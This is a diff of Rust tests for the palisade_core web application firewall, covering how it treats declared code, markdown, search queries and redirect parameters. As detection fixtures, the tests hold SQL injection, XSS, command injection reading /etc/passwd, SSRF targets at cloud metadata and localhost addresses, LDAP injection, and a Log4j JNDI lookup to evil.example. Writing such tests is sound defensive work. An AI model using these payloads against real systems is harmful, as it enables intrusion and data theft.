@@ -112,16 +112,12 @@ fn judged(body: &str, level: Level, gzip: bool) -> Vec<Finding> {
     report.findings
 }
 
-fn detectors(f: &[Finding]) -> Vec<(&'static str, u8)> {
-    f.iter().map(|f| (f.detector, f.confidence)).collect()
-}
-
 #[test]
-fn declared_code_is_judged_in_its_own_language_at_strict_only() {
+fn declared_code_is_not_judged_in_its_own_language_at_any_level() {
     let sql = r#"{"files":[{"name":"report.sql","content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
     for gzip in [false, true] {
         assert!(judged(sql, Level::Balanced, gzip).is_empty(), "{:?}", judged(sql, Level::Balanced, gzip));
-        assert_eq!(detectors(&judged(sql, Level::Strict, gzip)), vec![("sqli", DECLARED_CODE)]);
+        assert!(judged(sql, Level::Strict, gzip).is_empty(), "{:?}", judged(sql, Level::Strict, gzip));
     }
     // Without the file name, the same text is an injection at balanced.
     let bare = r#"{"files":[{"content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
@@ -130,6 +126,11 @@ fn declared_code_is_judged_in_its_own_language_at_strict_only() {
     assert!(judged(shell, Level::Balanced, false).is_empty());
     let jsx = r#"{"name":"App.jsx","code":"export const B = () => <button onClick={() => go(1)}>go</button>;"}"#;
     assert!(judged(jsx, Level::Balanced, false).is_empty());
+    assert!(judged(jsx, Level::Strict, false).is_empty());
+    // Shell words in code of another language are that language's statements: `;` then a
+    // name that is also a program's (`true`, `set`) in JavaScript.
+    let js = r#"{"language":"javascript","code":"const t = setTimeout(() => setReady(true), 500); set(x); true;"}"#;
+    assert!(judged(js, Level::Strict, false).iter().all(|f| f.detector != "cmdi"), "{:?}", judged(js, Level::Strict, false));
 }
 
 #[test]
@@ -151,7 +152,7 @@ fn declared_code_does_not_cover_other_languages_or_breakouts() {
 fn markdown_code_is_text_and_raw_html_outside_it_is_not() {
     let md = r#"{"markdown":"- Added `<script>` loading via `defer`\n\n```js\ndocument.body.innerHTML = `<b>${x}</b>`;\n```"}"#;
     assert!(judged(md, Level::Balanced, false).is_empty(), "{:?}", judged(md, Level::Balanced, false));
-    assert!(judged(md, Level::Strict, false).iter().all(|f| f.confidence == DECLARED_CODE));
+    assert!(judged(md, Level::Strict, false).is_empty(), "{:?}", judged(md, Level::Strict, false));
     let raw = r#"{"markdown":"Look `code` <img src=x onerror=alert(document.domain)>"}"#;
     assert!(judged(raw, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
 }
@@ -160,8 +161,95 @@ fn markdown_code_is_text_and_raw_html_outside_it_is_not() {
 fn code_block_nodes_are_code_of_their_language() {
     let pm = r#"{"doc":{"type":"doc","content":[{"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"DELETE FROM sessions WHERE expires_at < CURRENT_TIMESTAMP; -- cleanup"}]}]}}"#;
     assert!(judged(pm, Level::Balanced, false).is_empty());
-    assert_eq!(detectors(&judged(pm, Level::Strict, false)), vec![("sqli", DECLARED_CODE)]);
+    assert!(judged(pm, Level::Strict, false).is_empty());
     // The same text in a paragraph is judged as any text.
     let para = pm.replace("codeBlock", "paragraph");
     assert!(!judged(&para, Level::Balanced, false).is_empty());
+}
+
+#[test]
+fn search_names_by_convention() {
+    for n in ["q", "Q", "query", "search", "s", "term", "keywords", "search_query", "searchTerm", "search-text", "prefix", "text", "wd"] {
+        assert!(search_name(n), "{n}");
+    }
+    for n in ["id", "file", "url", "sort", "order", "cmd", "queryId", "q2", "path", "redirect", "name", "searchresultsforthesite"] {
+        assert!(!search_name(n), "{n}");
+    }
+    assert!(free_text(&Location::Query("q"), FieldKind::QueryValue));
+    assert!(!free_text(&Location::Query("q"), FieldKind::QueryName));
+    assert!(free_text(&Location::Field("search"), FieldKind::FormValue));
+    assert!(free_text(&Location::Header("Referer"), FieldKind::Header));
+    assert!(!free_text(&Location::Header("User-Agent"), FieldKind::Header));
+    assert!(free_text(&Location::Named("query.variables/q"), FieldKind::JsonValue));
+    assert!(!free_text(&Location::Named("query.variables/id"), FieldKind::JsonValue));
+}
+
+/// The findings of a GET request with this query and `Referer`, at a level.
+fn get(query: &str, referer: Option<&str>, level: Level) -> Vec<Finding> {
+    let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::GET, "/search");
+    req.query = Some(query.to_string());
+    if let Some(r) = referer {
+        req.headers.insert(http::header::REFERER, http::HeaderValue::from_str(r).unwrap());
+    }
+    let engine = Engine::new(crate::EngineConfig { level, ..crate::EngineConfig::default() }).unwrap();
+    engine.inspect(&req.view())
+}
+
+#[test]
+fn searches_are_free_text_and_breakouts_in_them_are_not() {
+    // Written for this rule: searches about SQL and shell, in a search box and in the search
+    // engine's address a visitor came from.
+    for q in ["order+by+1+desc", "cat+%2Fetc%2Fhosts+linux", "waitfor+delay+%270%3A0%3A5%27+sql+server", "drop+table+if+exists+syntax"] {
+        for level in [Level::Balanced, Level::Strict] {
+            assert!(get(&format!("q={q}"), None, level).is_empty(), "{q}: {:?}", get(&format!("q={q}"), None, level));
+            let referer = format!("https://www.bing.com/search?q={q}&form=QBLH");
+            assert!(get("page=2", Some(&referer), level).is_empty(), "{referer}: {:?}", get("page=2", Some(&referer), level));
+        }
+    }
+    // The same values in a parameter of another role are judged as before.
+    assert!(!get("sort=order+by+1+desc", None, Level::Balanced).is_empty());
+    // Breakouts are injections in a search box and in a `Referer` alike.
+    for q in
+        ["%27+or+1%3D1--", "1+union+select+null%2Cversion()--", "x%27%3B+DROP+TABLE+users", "%3B+cat+%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"]
+    {
+        assert!(!get(&format!("q={q}"), None, Level::Balanced).is_empty(), "{q}");
+        let referer = format!("https://www.example.com/search?q={q}");
+        assert!(!get("page=2", Some(&referer), Level::Balanced).is_empty(), "{referer}");
+    }
+}
+
+#[test]
+fn redirect_targets_by_name() {
+    for n in ["redirect_uri", "redirectUri", "post_logout_redirect_uri", "return_to", "returnUrl", "success_url"] {
+        assert!(redirect_name(n), "{n}");
+    }
+    for n in ["url", "webhook_url", "callback", "image_url", "feed", "redirect_uri_and_some_more_words_that_do_not_fit"] {
+        assert!(!redirect_name(n), "{n}");
+    }
+    // A loopback redirect of a native app is not a request forgery; the same address as a
+    // webhook the server calls is, and so is a metadata address or an internal service where
+    // a browser is sent.
+    let findings = |body: &str, level| {
+        let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::POST, "/oauth/clients");
+        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
+        req.body = body.as_bytes().to_vec();
+        let engine = Engine::new(crate::EngineConfig { level, ..crate::EngineConfig::default() }).unwrap();
+        engine.inspect(&req.view())
+    };
+    assert!(findings(r#"{"redirect_uri":"http://localhost/callback"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"webhook_url":"http://localhost/callback"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"redirect_uri":"http://169.254.169.254/latest/meta-data/"}"#, Level::Balanced).is_empty());
+    assert!(!findings(r#"{"redirect_uri":"http://localhost:6379/"}"#, Level::Balanced).is_empty());
+    assert!(findings(r#"{"redirect_uri":"http://127.0.0.1/cb"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"returnTo":"http://localhost.localdomain/"}"#, Level::Strict).is_empty());
+}
+
+#[test]
+fn ldap_and_log4j_words_in_a_search() {
+    for q in ["ldap+filter+(%26(uid%3D*))+syntax", "%24%7Bjndi%3Aldap%7D+log4j+explained"] {
+        assert!(get(&format!("q={q}"), None, Level::Strict).is_empty(), "{q}: {:?}", get(&format!("q={q}"), None, Level::Strict));
+    }
+    for q in ["*)(uid%3D*))(%7C(uid%3D*", "*()%7C%26%27", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"] {
+        assert!(!get(&format!("q={q}"), None, Level::Balanced).is_empty(), "{q}");
+    }
 }
